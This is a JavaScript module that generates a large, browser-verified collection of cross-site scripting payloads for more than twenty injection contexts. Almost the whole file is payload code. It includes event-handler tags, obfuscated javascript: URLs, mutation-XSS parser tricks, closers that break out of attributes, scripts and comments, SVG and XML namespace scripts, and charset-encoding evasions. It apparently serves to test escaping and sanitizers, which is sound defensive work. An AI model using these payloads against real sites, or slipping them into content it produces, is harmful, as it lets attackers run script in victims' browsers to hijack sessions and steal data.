// Texts that run a script where somebody puts them on a page as they are. Each is [context, text]: what stands around it
// when it runs. `prove.mjs` shows that each one does, in the browser of today; one that does not counts for nothing.
//
// `@` stands for what tells that a script ran: see `armed`.

/** How a text comes into a page that does not protect itself; `type` is what it is served as. */
export const CONTEXTS = {
  html: (text) => `<!doctype html><p>Text: ${text}</p>`,
  double: (text) => `<!doctype html><img alt="${text}" src="/none.png">`,
  single: (text) => `<!doctype html><img alt='${text}' src='/none.png'>`,
  unquoted: (text) => `<!doctype html><img src=/none.png alt=${text}>`,
  link: (text) => `<!doctype html><a href="${text}">link</a>`,
  action: (text) => `<!doctype html><form action="${text}"><button>send</button></form>`,
  srcdoc: (text) => `<!doctype html><iframe srcdoc="${text}"></iframe>`,
  frame: (text) => `<!doctype html><iframe src="${text}"></iframe>`,
  markdown: (text) => `<!doctype html><p>${carelessMarkdown(text)}</p>`,
  title: (text) => `<!doctype html><title>${text}</title>`,
  textarea: (text) => `<!doctype html><textarea>${text}</textarea>`,
  style: (text) => `<!doctype html><style>/* ${text} */</style>`,
  comment: (text) => `<!doctype html><!-- ${text} -->`,
  "script-double": (text) => `<!doctype html><script>var title = "${text}";</script>`,
  "script-single": (text) => `<!doctype html><script>var title = '${text}';</script>`,
  "script-template": (text) => `<!doctype html><script>var title = \`${text}\`;</script>`,
  json: (text) => `<!doctype html><script>var data = ${JSON.stringify({ title: text })};</script>`,
  handler: (text) => `<!doctype html><script>function show() {}</script><img src=/none.png onerror="show('${text}')">`,
  rendered: (text) => `<!doctype html><p id=place></p><script>place.innerHTML = ${inScript(text)};</script>`,
  feed: (text) => `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>${text}</title></feed>`,
  cdata: (text) => `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title><![CDATA[${text}]]></title></feed>`,
  svg: (text) => text,
};

export const TYPES = { feed: "application/xml", cdata: "application/xml", svg: "image/svg+xml" };

const inScript = (text) => JSON.stringify(text).replaceAll("<", "\\u003c");

/** Markdown as the shortest renderers do it: HTML goes through, and so does every address. */
function carelessMarkdown(text) {
  return text
    .replace(/!\[([^\]]*)\]\(<?((?:[^>()]|\([^()]*\))*)>?\)/g, '<img alt="$1" src="$2">')
    .replace(/\[([^\]]*)\]\(<?((?:[^>()]|\([^()]*\))*)>?\)/g, '<a href="$2">$1</a>')
    .replace(/<((?:javascript|data):[^>]*)>/gi, '<a href="$1">$1</a>');
}

/** The text of payload `number`, which tells that number when it runs: without quotes and spaces, which every context would
 * treat in its own way. */
export function armed(number) {
  const [, text, as = (own) => own] = PAYLOADS[number];
  return as(text.replaceAll("@", `fired(${number}+[])`));
}

/** Events that people or pages cause, on an element with any text. */
const EVENTS = [
  "click", "dblclick", "auxclick", "contextmenu", "mousedown", "mouseup", "mouseover", "mouseout", "mousemove", "mouseenter",
  "mouseleave", "wheel", "pointerdown", "pointerup", "pointermove", "pointerover", "pointerout", "pointerenter", "pointerleave",
  "pointercancel", "gotpointercapture", "lostpointercapture", "keydown", "keyup", "keypress", "focus", "blur", "focusin", "focusout",
  "input", "beforeinput", "change", "select", "selectstart", "selectionchange", "copy", "cut", "paste", "beforecopy", "beforecut",
  "beforepaste", "drag", "dragstart", "dragend", "dragenter", "dragleave", "dragover", "drop", "scroll", "scrollend", "toggle",
  "beforetoggle", "animationstart", "animationend",
  "animationiteration", "touchstart", "touchend", "touchmove",
  "formdata", "reset", "submit", "invalid", "resize", "securitypolicyviolation",
  "slotchange", "cancel", "close", "load", "error", "abort", "canplay", "play", "pause", "ended", "seeked", "timeupdate",
  "volumechange", "waiting", "stalled", "suspend", "emptied", "cuechange", "durationchange", "progress", "ratechange",
];

/** Elements that run something by themselves. */
const ALONE = [
  "<script>@</script>", "<img src=/x onerror=@>", "<svg onload=@>", "<body onload=@>", "<iframe onload=@></iframe>",
  "<style onload=@></style>", "<video src=/x onerror=@></video>", "<audio src=/x onerror=@></audio>",
  "<video><source src=/x onerror=@></video>", "<input type=image src=/x onerror=@>", "<object data=/x onerror=@></object>",
  "<link rel=stylesheet href=/x onerror=@>", "<script src=/x onerror=@></script>", "<details open ontoggle=@><summary>x</summary>",
  "<svg><animate attributeName=x dur=1ms onbegin=@>", "<svg><set attributeName=x dur=1ms onbegin=@>",
  "<svg><image href=/x onerror=@>", "<svg><script>@</script></svg>", "<iframe srcdoc='<script>parent.@</script>'></iframe>",
  "<iframe src=javascript:parent.@></iframe>",
  "<style>@keyframes\fk{}</style><b style=animation-name:k onanimationstart=@>x</b>",
];

/** One element written in every way that parsers forgive. */
function spellings() {
  const all = [];
  const separators = [" ", "\t", "\n", "\r", "\f", "/", "//", " / ", "\n\t", "/ /"];
  const quotes = [["", ""], ['"', '"'], ["'", "'"]];
  for (const [tag, own, event] of [["img", "src=/x", "onerror"], ["svg", "id=s", "onload"], ["iframe", "name=f", "onload"]]) {
    for (const separator of separators) for (const [open, close] of quotes) {
      all.push(`<${tag}${separator}${own} ${event}=${open}@${close}>`);
    }
    const turned = [...tag].map((letter, at) => (at % 2 ? letter : letter.toUpperCase())).join("");
    all.push(`<${turned} ${own} ${event.toUpperCase()}=@>`, `<${tag} ${own} ${event} = @>`, `<${tag} ${own} ${event}\n=\n"@"\n>`);
    all.push(`<${tag} ${own} x="a>b" ${event}=@>`, `<${tag} ${own} ${event}=@//`, `<${tag}\n${own}\n${event}=@ `, `<${tag} ${own} x=\`y\` ${event}=@>`);
    all.push(`<<${tag} ${own} ${event}=@>`, `</${tag}><${tag} ${own} ${event}=@>`);
  }
  return all;
}

/** The names of `javascript:` that browsers understand. */
const SCRIPT = [
  "javascript:@", "JAVASCRIPT:@", "JavaScript:@", "jAvAsCrIpT:@", " javascript:@", "\tjavascript:@", "\njavascript:@", "java\tscript:@",
  "java\nscript:@", "java\rscript:@", "j\na\nv\na\ns\nc\nr\ni\np\nt:@", "javascript\n:@", "javascript\t:@", "\u0001javascript:@", "\u001fjavascript:@",
  "javascript&colon;@", "javascript&#58;@", "javascript&#x3a;@", "javascript&#x3A;@", "javascript&#0000058;@", "&#106;avascript:@", "&#x6a;avascript:@",
  "&#x6A&#x61vascript:@", "java&#10;script:@", "java&#x0A;script:@", "java&Tab;script:@", "java&NewLine;script:@", "java&#9;script:@",
  "&#1;javascript:@", "&#32;javascript:@", "&Tab;javascript:@", "javascript:void(@)", "javascript://x/%0a@", "javascript://x/%0A@", "javascript:/*x*/@",
  "javascript:%66ired(1+[]),@", "javascript:'%3cb%3e',@", "javascript:@//https://x.example/", "javascript:@;//https://x.example/",
  "javascript:eval(&quot;@&quot;)", "javascript:window['fir'+'ed']&&@", "javascript:throw(@)", "javascript:`${@}`", "javascript:(()=>@)()",
];

/** Texts that leave what they stand in, before `rest`. */
const OUT = {
  double: ['">', '" x="">', '"/>', "\">\n", '"x>', '" >'],
  single: ["'>", "' x=''>", "'/>", "'>\n", "'x>", "' >"],
  unquoted: ["x>", ">", "x >", "\n>", "'x'>", "x/>"],
  title: ["</title>", "</TITLE>", "</title >", "</title\n>", "</title/>", "</title x>"],
  textarea: ["</textarea>", "</TEXTAREA>", "</textarea >", "</textarea\n>", "</textarea/>", "</textarea x>"],
  style: ["</style>", "</STYLE>", "</style >", "</style\n>", "</style/>", "*/</style x>"],
  comment: ["-->", "--!>", "--->", "--\n-->", "<!-- -->", "x-->"],
};
const BEHIND = ["<script>@</script>", "<img src=/x onerror=@>", "<svg onload=@>", "<iframe onload=@></iframe>", "<style onload=@></style>"];

/** Attributes that an attribute lets in. */
const ATTRIBUTES = ["onerror=@ x=", "onerror=@ src=/x x=", "style=x onerror=@ y=", "ONERROR=@ x=", "onerror\n=\n@ x=", "autofocus onerror=@ x="];

/** Trees that change when they are written down and read again, or that parsers read in a way of their own. */
const STRANGE = [
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=/x onerror=@&gt;\"></table></mtext></math><img src=/x onerror=@>",
  "<svg><style><img src=/x onerror=@></style></svg>", "<svg></p><style><a id=\"</style><img src=/x onerror=@>\">",
  "<math></p><style><!--</style><img src=/x onerror=@>--></style></math>", "<noembed><img title=\"</noembed><img src=/x onerror=@>\">",
  "<noframes><img title=\"</noframes><img src=/x onerror=@>\">", "<xmp><p title=\"</xmp><img src=/x onerror=@>\">",
  "<svg><foreignObject><img src=/x onerror=@></foreignObject></svg>", "<svg><desc><img src=/x onerror=@></desc></svg>",
  "<svg><title><img src=/x onerror=@></title></svg>", "<math><mi><img src=/x onerror=@></mi></math>",
  "<math><annotation-xml encoding='text/html'><img src=/x onerror=@></annotation-xml></math>", "<table><img src=/x onerror=@></table>",
  "<table><tr><td><img src=/x onerror=@>", "<select></select><img src=/x onerror=@>", "<template></template><img src=/x onerror=@>",
  "<!--><img src=/x onerror=@>-->", "<!---><img src=/x onerror=@>-->", "<!-- --!><img src=/x onerror=@>", "<!x><img src=/x onerror=@>",
  "<?x ><img src=/x onerror=@>", "<![CDATA[><img src=/x onerror=@>]]>", "</x ><img src=/x onerror=@>", "<a\u0000b><img src=/x onerror=@>",
  "<p title='</p><b>'><img src=/x onerror=@>", "<b <img src=/x onerror=@>", "\u202e<img src=/x onerror=@>\u2066", "\u2028<img src=/x onerror=@>\u2029",
  "\ufeff<img src=/x onerror=@>", "<listing><img src=/x onerror=@></listing>",
  "<iframe srcdoc=\"&lt;img src=/x onerror=parent.@&gt;\"></iframe>", "<iframe srcdoc='&lt;svg onload=parent.@&gt;'></iframe>",
  "<base href=/nowhere/><img src=x onerror=@>",
];

const XHTML = "http://www.w3.org/1999/xhtml";
const SVG = "http://www.w3.org/2000/svg";
const IN_XML = [
  `<script xmlns="${XHTML}">@</script>`, `<x:script xmlns:x="${XHTML}">@</x:script>`, `<script xmlns="${SVG}">@</script>`,
  `<svg xmlns="${SVG}" onload="@"/>`, `<img xmlns="${XHTML}" src="/x" onerror="@"/>`, `<iframe xmlns="${XHTML}" onload="@"/>`,
  `<body xmlns="${XHTML}"><img src="/x" onerror="@"/></body>`, `<style xmlns="${XHTML}" onload="@"/>`,
];

/** Text as a browser reads it that takes it for UTF-16. */
const wide = (text) => [...text].join("\0") + "\0";
/** Drawings that are more than drawings. */
const head = `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink"`;
const DRAWINGS = [
  `${head}><script>@</script></svg>`, `${head} onload="@"/>`, `${head}><image href="/x" onerror="@"/></svg>`, `${head}><g><script type="text/javascript">@</script></g></svg>`,
  `${head}><animate attributeName="x" dur="1ms" onbegin="@"/></svg>`, `${head}><set attributeName="x" dur="1ms" onbegin="@"/></svg>`,
  `${head}><foreignObject><img xmlns="${XHTML}" src="/x" onerror="@"/></foreignObject></svg>`, `${head}><style onload="@"/></svg>`,
  `${head}><foreignObject><iframe xmlns="${XHTML}" onload="@"/></foreignObject></svg>`, `${head}><script><![CDATA[@]]></script></svg>`,
  `${head}><foreignObject><script xmlns="${XHTML}">@</script></foreignObject></svg>`, `${head}><x:script xmlns:x="${SVG}">@</x:script></svg>`,
  `${head}><x:script xmlns:x="${XHTML}">@</x:script></svg>`, `<!DOCTYPE svg [<!ENTITY x "@">]>${head}><script>&x;</script></svg>`,
  `${head}><script>&#102;ired&#40;0+[]&#41;;@</script></svg>`, `${head} onload = '@'></svg>`, `${head}\nonload\n=\n"@"\n/>`,
  `${head}><script href="data:text/javascript,@"/></svg>`, `${head}><script xlink:href="data:text/javascript,@"/></svg>`,
  `${head}><a href="javascript:@"><text y="20">x</text></a></svg>`, `${head}><a xlink:href="javascript:@"><text y="20">x</text></a></svg>`,
  `${head}><a href="java&#10;script:@"><text y="20">x</text></a></svg>`, `${head}><a xlink:href="&#106;avascript:@"><text y="20">x</text></a></svg>`,
  `${head}><a><set attributeName="href" to="javascript:@"/><text y="20">x</text></a></svg>`,
  `${head}><a><animate attributeName="href" values="javascript:@"/><text y="20">x</text></a></svg>`,
  `${head}><a><set attributeName="xlink:href" to="javascript:@"/><text y="20">x</text></a></svg>`,
  `${head}><circle r="9" onclick="@"/></svg>`, `${head}><g onmouseover="@"><circle r="9"/></g></svg>`, `${head}><g onfocusin="@"><circle r="9"/></g></svg>`,
  `${head} onclick="@"/>`, `${head} onmousemove="@"/>`, `<x:svg xmlns:x="${SVG}" onload="@"/>`,
  `${head} xmlns:x="${XHTML}"><x:iframe srcdoc="&lt;script>parent.@&lt;/script>"/></svg>`,
  `${head} xmlns:x="${XHTML}"><x:iframe srcdoc="&lt;svg/onload=parent.@>"/></svg>`,
  `${head} xmlns:x="${XHTML}"><x:img src="/x" onerror="@"/></svg>`, `${head} xmlns:x="${XHTML}"><x:style onload="@"/></svg>`,
  `<?xml version="1.0" encoding="ISO-2022-JP"?>${head}><s\u001b(Bcript>@</s\u001b(Bcript></svg>`,
  `<?xml version="1.0" encoding="ISO-2022-JP"?>${head} on\u001b(Bload="@"/>`,
];

function* each() {
  for (const text of [...ALONE, ...spellings(), ...STRANGE]) yield ["html", text];
  for (const event of EVENTS) yield ["html", `<b on${event}=@>x</b>`];
  for (const [context, ways] of Object.entries(OUT)) for (const way of ways) for (const rest of BEHIND) yield [context, way + rest];
  for (const attribute of ATTRIBUTES) {
    yield ["double", `" ${attribute}"`];
    yield ["single", `' ${attribute}'`];
    yield ["unquoted", `x ${attribute}`];
  }
  for (const address of SCRIPT) {
    yield ["link", address];
    yield ["frame", address.replaceAll("@", "parent.@")];
  }
  for (const address of SCRIPT.filter((own) => !/[\n\r`]|=>|\([^)]*@|:@;/.test(own))) yield ["markdown", `[words](${address})`];
  for (const text of ["![x](/x\" onerror=\"@)", "<javascript:@>", "<JAVASCRIPT:@>", "[a](x\" onclick=\"@)", "[a](javascript:@ \"t\")", "[<img src=/x onerror=@>](y)", "![<img src=/x onerror=@>](y)", "[^1]: <img src=/x onerror=@>", "# <img src=/x onerror=@>", "|<img src=/x onerror=@>|", "`<img src=/x onerror=@>`", "> <img src=/x onerror=@>", "- [x] <img src=/x onerror=@>", "```<script>@</script>", "[x]: <img src=/x onerror=@>"]) yield ["markdown", text];
  for (const end of ["</script>", "</SCRIPT>", "</script >", "</script/>", "</script x>"]) for (const rest of BEHIND) {
    yield ["json", end + rest];
    yield ["script-double", end + rest];
  }
  for (const address of SCRIPT.filter((own) => own.startsWith("javascript") || /&/.test(own)).slice(0, 16)) yield ["action", address];
  for (const text of ["<script>parent.@</script>", "<img src=/x onerror=parent.@>", "<svg onload=parent.@>"]) {
    yield ["srcdoc", text];
    yield ["srcdoc", text.replaceAll("<", "&lt;")];
    yield ["srcdoc", text.replaceAll("<", "&#60;").replaceAll(">", "&#62;")];
  }
  for (const [context, quote] of [["script-double", '"'], ["script-single", "'"], ["script-template", "`"]]) {
    for (const text of ["-@-", ";@;x=", "+@+", "||@||", "==@=="]) yield [context, quote + text + quote];
  }
  for (const text of ["${@}", "${`${@}`}", "x${@}y"]) yield ["script-template", text];
  for (const text of ["'-@-'", "');@;('", "&#39;-@-&#39;", "&apos;-@-&apos;", "&#x27;);@;(&#x27;", "'+@+'"]) yield ["handler", text];
  // What a script puts into a page starts no scripts, and its last tag must be whole.
  const isRendered = (text) => !/<script>@|<body|@(\/\/| )?$/.test(text);
  for (const text of [...ALONE, ...spellings().slice(0, 40), ...STRANGE].filter(isRendered)) yield ["rendered", text];
  for (const text of IN_XML) {
    yield ["feed", text];
    yield ["cdata", `]]>${text}<![CDATA[`];
  }
  for (const text of DRAWINGS) yield ["svg", text];
  for (const text of [`<script>@</script>`, `<rect/><g onclick="@"/>`]) yield ["svg", `<?xml version="1.0"?>${head}>${text}</svg>`, wide];
}

/** All of them, each once, in a fixed order. */
export const PAYLOADS = [...new Map([...each()].map((own) => [own.join("\0"), own])).values()];
